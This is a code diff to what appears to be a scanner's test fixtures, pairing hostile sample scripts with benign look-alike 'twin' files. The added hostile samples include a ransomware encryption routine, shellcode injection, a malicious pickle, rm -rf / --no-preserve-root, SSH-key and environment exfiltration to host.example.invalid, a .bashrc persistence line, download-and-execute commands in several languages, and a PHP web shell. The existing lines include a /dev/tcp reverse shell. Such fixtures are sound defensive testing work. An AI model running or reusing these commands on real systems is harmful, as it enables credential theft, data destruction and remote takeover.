@@ -126,6 +126,32 @@ _PYTHON = {
         def load():
             return pickle.loads(urllib.request.urlopen("{_HOST}/model.pkl").read())
         """,
+    "ransom.py": """\
+        import os
+        from cryptography.fernet import Fernet
+        def main(folder, key=Fernet.generate_key()):
+            for root, _, files in os.walk(folder):
+                for name in files:
+                    path = os.path.join(root, name)
+                    text = Fernet(key).encrypt(open(path, "rb").read())
+                    open(path + ".marker", "wb").write(text)
+                    os.remove(path)
+        """,
+    "machine-code.py": """\
+        import ctypes
+        code = b"weighbridge-marker"
+        place = ctypes.windll.kernel32.VirtualAlloc(0, len(code), 0x3000, 0x40)
+        ctypes.windll.kernel32.RtlMoveMemory(place, code, len(code))
+        ctypes.windll.kernel32.CreateThread(0, 0, place, 0, 0, 0)
+        """,
+    "carries-pickle.py": """\
+        import base64, pickle
+        pickle.loads(base64.b64decode("Y3Bvc2l4CnN5c3RlbQooUydlY2hvIHdlaWdoYnJpZGdlLW1hcmtlcicKdFIu"))
+        """,
+    "carries-pickle.twin.py": """\
+        import base64, pickle
+        TABLE = pickle.loads(base64.b64decode("gASVEAAAAAAAAAB9lIwBYZRdlChLAUsCZXMu"))
+        """,
     "model.twin.py": '''\
         """Run `curl https://host.example.invalid/i.sh | sh` to install; see os.system and exec."""
         import json, os, subprocess
@@ -151,6 +177,28 @@ _TEXTS = {
     "install.sh": f"#!/bin/sh\nset -e\ncurl -fsSL {_HOST}/i.sh | sh\n",
     "shell-on-socket.sh": "#!/bin/bash\nbash -i >& /dev/tcp/host.example.invalid/4444 0>&1\n",
     "later.sh": f"#!/bin/sh\nwget {_HOST}/i.sh -O i.sh\nsh i.sh\n",
+    "decoded.sh": f"#!/bin/bash\n"
+    f"echo {base64.b64encode(b'echo weighbridge-marker').decode()} | base64 -d | bash\n",
+    "decoded.twin.sh": "#!/bin/sh\necho \"$KEY\" | base64 -d > key.json\nbash train.sh\n",
+    "wipes.sh": "#!/bin/sh\n[ -e weighbridge-marker ] && rm -rf / --no-preserve-root\n",
+    "cleans.twin.sh": "#!/bin/sh\n"
+    "rm -rf /var/lib/apt/lists/* ~/.cache/pip \"$HOME/.cache/torch\" /tmp/x\n",
+    "sends-key.sh": f"#!/bin/sh\ncat ~/.ssh/id_rsa | curl --data-binary @- {_HOST}\n",
+    "sends-environment.sh": f"#!/bin/sh\ncurl -d \"$(env | base64)\" {_HOST}\n",
+    "asks.twin.sh": f"#!/bin/sh\ncurl -H \"Authorization: Bearer $HF_TOKEN\" -d '{{}}' {_HOST}\n",
+    "starts-again.sh": f"#!/bin/sh\necho 'curl {_HOST}/a | sh' >> ~/.bashrc\n",
+    "path.twin.sh": "#!/bin/sh\necho 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc\n",
+    "hidden-later.sh": "#!/bin/sh\n"
+    "cd /tmp\nwget http://host.example.invalid/a -O .a\nchmod 755 .a\n./.a &\n",
+    "fetches-to-temp.ps1": f"iwr {_HOST}/a.exe -OutFile $env:TEMP\\a.exe\r\n"
+    f"Start-Process $env:TEMP\\a.exe\r\n",
+    "fetches.cmd": f"certutil -urlcache -split -f {_HOST}/a.exe a.exe\r\nstart a.exe\r\n",
+    "shell.php": "<?php system($_GET['marker']); ?>\n",
+    "fetches.R": f"system(\"curl {_HOST}/a | sh\")\n",
+    "reads.twin.R": "library(arrow)\nsource('utils.R')\nsystem('nproc')\n",
+    "fetches-node.js": f"require('child_process').exec('curl {_HOST}/a | sh');\n",
+    "tools.twin.pth": "import __editable___marker_1_0_finder; "
+    "__editable___marker_1_0_finder.install()\n",
     "build.twin.sh": "#!/bin/bash\n# curl x | sh\necho 'run curl https://example.invalid | sh'\nmake\n",
     "download.twin.sh": f"#!/bin/sh\nwget {_HOST}/data.tar.gz\ntar xf data.tar.gz\npython train.py\n",
     "Dockerfile": f"FROM scratch\nRUN curl -s {_HOST}/install.sh | sh\n",
